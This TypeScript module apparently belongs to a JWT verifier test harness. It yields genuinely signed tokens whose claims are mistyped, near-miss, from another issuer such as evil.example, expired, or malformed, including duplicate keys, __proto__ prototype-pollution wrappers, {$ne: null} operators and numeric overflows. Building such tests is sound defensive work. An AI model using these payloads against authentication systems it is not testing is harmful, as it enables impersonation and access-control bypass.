import {
  type AttackTarget,
  claimsOf,
  headerOf,
  signGenuinely,
  type TokenForgery,
} from './target.js';
import { type Changed, untimely } from './time.attacks.js';

/** Claims that are missing, of another type, somebody else's or out of time, signed genuinely. */
export function* claimTricks(target: AttackTarget): Generator<TokenForgery> {
  const header = JSON.stringify(headerOf(target));
  const changed = [...mistyped(target), ...foreign(target), ...untimely()];
  for (const { family, changes } of changed) {
    yield {
      family,
      name: describe(changes),
      token: signGenuinely(target, header, JSON.stringify(claimsOf(target, changes))),
    };
  }
  const good = JSON.stringify(claimsOf(target));
  for (const text of spellings(good, target)) {
    yield {
      family: 'payload',
      name: `payload ${label(text, good)}`,
      token: signGenuinely(target, header, text),
    };
  }
}

const describe = (changes: Record<string, unknown>) =>
  Object.entries(changes)
    .map(([name, value]) => `${name} ${JSON.stringify(value)}`)
    .join(', ')
    .slice(0, 200);

/** What a payload says besides the good claims. */
const label = (text: string, good: string) => {
  const common = [...text].findIndex((character, n) => character !== good[n]);
  return `${common}: ${text.slice(Math.max(0, common), common + 60)} of ${text.length}`;
};

const REQUIRED = ['iss', 'aud', 'sub', 'sid', 'iat', 'exp'];
const TYPES: unknown[] = [
  undefined,
  null,
  true,
  false,
  {},
  [],
  [null],
  [[]],
  '',
  ' ',
  -1,
  -0.5,
  { $ne: null },
];

const mistyped = ({ claims, issuer, audience }: AttackTarget): Changed[] =>
  [
    ...REQUIRED.flatMap((name) => TYPES.map((value) => ({ [name]: value }))),
    ...['nbf', 'email', 'scope'].flatMap((name) =>
      TYPES.filter(
        (value) => value !== undefined && (name === 'nbf' || typeof value !== 'string'),
      ).map((value) => ({ [name]: value })),
    ),
    ...['sub', 'sid'].flatMap((name) => [
      { [name]: 0 },
      { [name]: 7 },
      { [name]: [claims.sub] },
      { [name]: { id: claims.sub } },
      { [name]: `${String(claims[name])}\0` },
      { [name]: `${String(claims[name])}\n` },
      { [name]: `\u200b${String(claims[name])}` },
      { [name]: `\u202e${String(claims[name])}` },
      { [name]: 'x'.repeat(300) },
    ]),
    { iss: [issuer] },
    { iss: { url: issuer } },
    { aud: { 0: audience } },
    { aud: [[audience]] },
  ].map((changes) => ({ family: 'claim type', changes }));

/** Near misses of a name. */
const near = (name: string) => [
  `${name}/`,
  `${name} `,
  ` ${name}`,
  `${name}.`,
  `${name}\0`,
  `${name}2`,
  `${name}-staging`,
  `x${name}`,
  `/${name}`,
  `${name},${name}`,
  `${name} ${name}`,
  name.slice(0, -1),
  name.slice(1),
  name.toUpperCase(),
  name.replace(/[a-z]/, (letter) => letter.toUpperCase()),
  name.replace('a', '\u0430'),
  name.replace('a', 'a\u200d'),
  encodeURIComponent(`${name}/`),
  '*',
  '.*',
  'null',
  'undefined',
];

const foreign = ({ issuer, audience }: AttackTarget): Changed[] => [
  ...[
    ...near(issuer),
    issuer.replace('http:', 'https:'),
    issuer.replace('https:', 'http:'),
    issuer.replace('://', '://evil@'),
    issuer.replace('://', '://evil.'),
    `${issuer}.evil.example`,
    `${issuer}@evil.example`,
    `${issuer}/api/auth`,
    `${issuer}?x`,
    `${issuer}#x`,
    'https://evil.example',
    audience,
  ]
    .filter((iss) => iss !== issuer)
    .map((iss) => ({ family: 'issuer', changes: { iss } })),
  ...[
    ...near(audience),
    issuer,
    [],
    ['other'],
    ['other', audience],
    [audience, 'other'],
    [audience, audience],
    [audience, null],
    [audience.toUpperCase()],
    [`${audience}2`],
    ['*'],
  ]
    .filter((aud) => aud !== audience)
    .map((aud) => ({ family: 'audience', changes: { aud } })),
];

/** Payloads that two readers read differently, or not at all. */
const spellings = (good: string, { claims, issuer, audience }: AttackTarget): string[] => {
  const more = (member: string) => `${good.slice(0, -1)},${member}}`;
  const before = (member: string) => `{${member},${good.slice(1)}`;
  const twice = [
    `"sub":${JSON.stringify(claims.sub)}`,
    '"sub":"somebody-else"',
    `"sid":${JSON.stringify(claims.sid)}`,
    `"iss":${JSON.stringify(issuer)}`,
    '"iss":"https://evil.example"',
    `"aud":${JSON.stringify(audience)}`,
    '"aud":"other"',
    '"exp":9999999999',
    '"exp":1',
    '"iat":1',
    '"\\u0073ub":"somebody-else"',
    '"\\u0065xp":9999999999',
  ];
  return [
    ...twice.flatMap((member) => [more(member), before(member)]),
    more('"x":{"a":1,"a":2}'),
    more('"x":[{"a":1,"a":2}]'),
    more('"jti":"a","jti":"b"'),
    good.replace(/"exp":\d+/, '"exp":1e400'),
    good.replace(/"exp":\d+/, '"exp":-1e400'),
    good.replace(/"exp":\d+/, '"exp":99999999999999999999999'),
    good.replace(/"exp":\d+/, '"exp":NaN'),
    good.replace(/"exp":\d+/, '"exp":Infinity'),
    good.replace(/"exp":\d+/, '"exp":0x7fffffff'),
    good.replace(/"exp":/, '"exp":0'),
    good.replace(/"exp":/, '"exp":+'),
    good.replace(/"iat":\d+/, '"iat":-1e400'),
    good.replace(/"iat":\d+/, '"iat":1e400'),
    good.replace(/"iss":"[^"]*",/, ''),
    good.replace('"sub"', '"Sub"'),
    good.replace('"sub"', '"SUB"'),
    good.replace('"sub"', '"sub "'),
    good.replace(/^\{/, '{"__proto__":').concat('}'),
    `{"__proto__":${good}}`,
    `{"claims":${good}}`,
    `{"constructor":{"prototype":${good}}}`,
    `[${good}]`,
    `[${good},${good}]`,
    `${good}${good}`,
    `${good}\n${good}`,
    `\ufeff${good}`,
    `${good}\0`,
    `${good},`,
    `${good.slice(0, -1)},}`,
    `${good}//`,
    `/**/${good}`,
    good.slice(0, -1),
    good.slice(1),
    good.replaceAll('"', "'"),
    JSON.stringify(good),
    'null',
    'true',
    '0',
    '""',
    '[]',
    '{}',
    ' ',
    `sub=${claims.sub}`,
  ];
};
